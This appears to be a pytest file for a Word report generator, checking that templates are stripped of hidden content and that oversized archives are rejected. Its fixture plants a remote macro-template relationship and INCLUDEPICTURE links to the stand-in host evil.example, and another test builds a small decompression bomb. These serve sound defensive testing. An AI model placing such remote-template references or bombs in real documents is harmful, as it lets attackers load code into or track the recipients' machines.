"""Of a template only its look is taken: nothing that Word keeps out of sight leaves with it."""

import io
import re
import zipfile
from pathlib import Path

import docx as word
import pytest

from detente.report.office import template as room
from detente.report.office.docx import docx
from detente.report.office.paper import Paper, PaperError
from detente.report.outline.block import Text

REL = room.REL
PAPER = Paper("x", "Heads of terms", (Text("one line"),))
HIDDEN = re.compile(rb"OLD[A-Z]+|evil")


def no_picture(_: object) -> None:
    return None


def png(_: str, __: float) -> bytes:
    raise AssertionError


def earlier_letter(path: Path) -> Path:
    """A letter with a comment, a note, a picture, properties, links, and a tracked header."""
    own = word.Document()
    own.add_paragraph("OLDBODY we would take 40")
    head = own.sections[0].header.paragraphs[0]
    head.text = "Ministry"
    own.core_properties.keywords, own.core_properties.comments = "OLDKEY", "OLDDESC"
    made = io.BytesIO()
    own.save(made)
    rows = (
        f'<Relationship Id="rId90" Type="{REL}/comments" Target="comments.xml"/>'
        f'<Relationship Id="rId91" Type="{REL}/image" Target="http://evil.example/x.png" '
        'TargetMode="External"/>'
    )
    more = {
        "word/comments.xml": b"<w>OLDCOMMENT</w>",
        "docProps/custom.xml": b"<p>OLDCUSTOM</p>",
        "word/media/image9.png": b"OLDIMAGE",
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="{room.PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{REL}/attachedTemplate" Target="http://evil.example/x.dotm" '
            'TargetMode="External"/></Relationships>'
        ).encode(),
    }
    tracked = (
        b'<w:ins w:id="1" w:author="OLDWRITER"><w:r><w:t> of Works</w:t></w:r></w:ins>'
        b'<w:del w:id="2" w:author="OLDWRITER"><w:r><w:delText>OLDWORD</w:delText></w:r></w:del>'
        b"<w:fldSimple w:instr='INCLUDEPICTURE \"http://evil.example/y.png\"'/></w:p>"
    )
    with (
        zipfile.ZipFile(made) as old,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            if name == "word/_rels/document.xml.rels":
                content = content.replace(b"</Relationships>", f"{rows}</Relationships>".encode())
            if name.startswith("word/header"):
                content = content.replace(b"</w:p>", tracked, 1)
            new.writestr(name, content)
        for name, content in more.items():
            new.writestr(name, content)
    return path


def test_nothing_out_of_sight_leaves_with_a_paper(tmp_path: Path) -> None:
    made = docx(PAPER, no_picture, png, earlier_letter(tmp_path / "old.docx"))
    with zipfile.ZipFile(io.BytesIO(made)) as whole:
        found = {name: HIDDEN.findall(whole.read(name)) for name in whole.namelist()}
        assert b"External" not in b"".join(map(whole.read, whole.namelist()))
    assert not any(found.values()), found
    assert (
        word.Document(io.BytesIO(made)).sections[0].header.paragraphs[0].text == "Ministry of Works"
    )


def test_a_template_is_bounded_before_it_is_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/styles.xml", b"a" * 2_000_000)
    monkeypatch.setattr(room, "UNPACKED", 1_000_000)
    with pytest.raises(PaperError, match="unpacks to more than"):
        docx(PAPER, no_picture, png, path)
    monkeypatch.setattr(room, "LARGEST", 100)
    with pytest.raises(PaperError, match="more than 100 bytes"):
        docx(PAPER, no_picture, png, path)
